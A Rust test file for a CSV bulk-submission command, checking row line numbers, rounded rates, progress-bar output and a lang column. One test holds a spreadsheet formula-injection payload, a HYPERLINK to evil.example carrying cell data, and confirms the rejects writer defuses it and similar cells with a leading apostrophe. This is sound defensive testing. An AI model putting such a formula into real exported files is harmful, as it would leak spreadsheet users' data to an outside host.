//! Tests of `testamur submit --csv`: reading rows, building requests, rejects.
use super::*;

fn lines_of(text: &[u8]) -> Vec<u64> {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("rows.csv");
    std::fs::write(&f, text).unwrap();
    let (_, rows) = read(&f, "add").unwrap();
    rows.iter().map(|r| r.line).collect()
}

/// The header is line 1 and every row is reported at the line it starts on,
/// whatever ends the lines (spreadsheets write `\r\n`), with a byte-order
/// mark, blank lines, and quoted cells spanning lines.
#[test]
fn rows_are_reported_at_their_line_in_the_file() {
    assert_eq!(lines_of(b"username,course_id\na,c\nb,c\n"), [2, 3]);
    assert_eq!(lines_of(b"username,course_id\r\na,c\r\nb,c\r\n"), [2, 3]);
    assert_eq!(lines_of(b"username,course_id\ra,c\rb,c"), [2, 3]);
    assert_eq!(
        lines_of(b"\xef\xbb\xbfusername,course_id\r\na,c\r\n\r\n\r\nb,c\r\n"),
        [2, 5]
    );
    assert_eq!(
        lines_of(
            b"username,course_id,name\r\na,c,\"two\r\nlines\"\r\nb,c,\"three\nmore\nlines\"\nd,c,x\n"
        ),
        [2, 4, 7]
    );
    // An unreadable row (not UTF-8) has its line too.
    assert_eq!(
        lines_of(b"username,course_id\r\na,c\r\nb,\xff\r\nd,c\r\n"),
        [2, 3, 4]
    );
}

fn reject(cells: &[&str], message: &str) -> Reject {
    Reject {
        line: 2,
        cells: cells.iter().map(|c| c.to_string()).collect(),
        status: "422".into(),
        code: "invalid_value".into(),
        field: "name".into(),
        message: message.into(),
    }
}

/// Cells a spreadsheet would run as formulas come out with a leading `'`,
/// in the row's own cells and in the echoed message alike.
#[test]
fn rejects_file_cells_cannot_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("rejects.csv");
    let headers: Vec<String> = ["username", "course_id", "name"].map(String::from).to_vec();
    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    write_rejects(
        &path,
        &headers,
        &[
            reject(&["u1", "c1", evil], "=1+1 is not a name"),
            reject(&["+41 22", "-5", "@SUM(A1:A9)"], "fine"),
            reject(&["\tx", "\ry", "Ada = Lovelace"], "fine"),
        ],
    )
    .unwrap();
    let mut r = csv::Reader::from_path(&path).unwrap();
    let rows: Vec<Vec<String>> = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows[0][4], "'=1+1 is not a name");
    assert_eq!(rows[0][5..], ["u1", "c1", &format!("'{evil}")]);
    assert_eq!(rows[1][5..], ["'+41 22", "'-5", "'@SUM(A1:A9)"]);
    assert_eq!(rows[2][5..], ["'\tx", "'\ry", "Ada = Lovelace"]);
    assert_eq!(rows[1][..5], ["2", "422", "invalid_value", "name", "fine"]);
}

#[test]
fn rates_are_rounded() {
    assert_eq!(rate(252.2993), "252/s");
    assert_eq!(rate(1234.5), "1234/s");
    assert_eq!(rate(10.4), "10/s");
    assert_eq!(rate(3.4567), "3.5/s");
    assert_eq!(rate(9.96), "10/s");
    assert_eq!(rate(0.0), "0/s");
    assert_eq!(rate(f64::NAN), "0/s");
}

/// A terminal that keeps what is drawn on it.
#[derive(Debug, Default, Clone)]
struct Screen(Arc<std::sync::Mutex<String>>);

impl indicatif::TermLike for Screen {
    fn width(&self) -> u16 {
        120
    }
    fn move_cursor_up(&self, _: usize) -> std::io::Result<()> {
        Ok(())
    }
    fn move_cursor_down(&self, _: usize) -> std::io::Result<()> {
        Ok(())
    }
    fn move_cursor_right(&self, _: usize) -> std::io::Result<()> {
        Ok(())
    }
    fn move_cursor_left(&self, _: usize) -> std::io::Result<()> {
        Ok(())
    }
    fn write_line(&self, s: &str) -> std::io::Result<()> {
        self.write_str(s)?;
        self.write_str("\n")
    }
    fn write_str(&self, s: &str) -> std::io::Result<()> {
        self.0.lock().unwrap().push_str(s);
        Ok(())
    }
    fn clear_line(&self) -> std::io::Result<()> {
        Ok(())
    }
    fn flush(&self) -> std::io::Result<()> {
        Ok(())
    }
}

/// What the bar draws: a rate like `997/s`, not `997.0089/s`.
#[test]
fn the_progress_bar_prints_a_rounded_rate() {
    let screen = Screen::default();
    let bar = ProgressBar::with_draw_target(
        Some(1000),
        indicatif::ProgressDrawTarget::term_like(Box::new(screen.clone())),
    );
    bar.set_style(progress_style().unwrap());
    bar.set_message("submitting");
    bar.inc(333);
    std::thread::sleep(Duration::from_millis(150));
    bar.inc(400);
    bar.finish();
    let text = screen.0.lock().unwrap().clone();
    assert!(
        text.contains("submitting [") && text.contains("/1000 ("),
        "{text}"
    );
    let (before, _) = text.rsplit_once("/s, ").expect("a rate");
    let number = before.rsplit('(').next().unwrap();
    assert!(
        !number.is_empty()
            && number.chars().all(|c| c.is_ascii_digit() || c == '.')
            && number.split('.').nth(1).is_none_or(|d| d.len() == 1),
        "rate `{number}/s` in {text:?}"
    );
}

#[test]
fn lang_column_goes_into_the_request() {
    let headers: Vec<String> = ["username", "course_id", "name", "lang"]
        .map(String::from)
        .to_vec();
    let cells: Vec<String> = ["u1", "c1", "陳大文", "zh-Hant"].map(String::from).to_vec();
    let r = request(&headers, &cells, "add");
    assert_eq!(r.lang.as_deref(), Some("zh-Hant"));
    assert!(COLUMNS.contains(&"lang"));
}
